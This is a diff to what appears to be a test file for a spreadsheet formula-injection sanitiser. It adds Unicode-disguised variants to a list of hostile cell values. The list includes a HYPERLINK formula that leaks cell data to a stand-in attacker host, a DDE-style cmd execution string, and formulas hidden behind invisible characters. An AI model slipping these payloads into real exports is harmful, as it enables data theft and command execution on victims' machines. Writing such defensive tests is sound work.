@@ -30,7 +30,9 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C c
            "\tleading tab", "\rleading cr"]
 # the same formulas behind what a spreadsheet skips or folds (issue #43, second round)
 DISGUISED = [" =1+1", "\u3000=1+1", "\uff1dHYPERLINK(\"http://evil.example\")", "\n=1+1", "\x00=1+1",
-             "\u200b=1+1", "\ufeff=1+1", " \u200b\ufeff@SUM(A1)", "\uff0bcmd", "\u2003-2+3"]
+             "\u200b=1+1", "\ufeff=1+1", " \u200b\ufeff@SUM(A1)", "\uff0bcmd", "\u2003-2+3",
+             # more of the same classes: no-break space, soft hyphen, word joiner, a small form of `=`, ESC
+             "\u00a0=1+1", "\u00ad=1+1", "\u2060@SUM(A1)", "\ufe66HYPERLINK(1)", "\x1b=1+1"]
 HOSTILE += DISGUISED
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
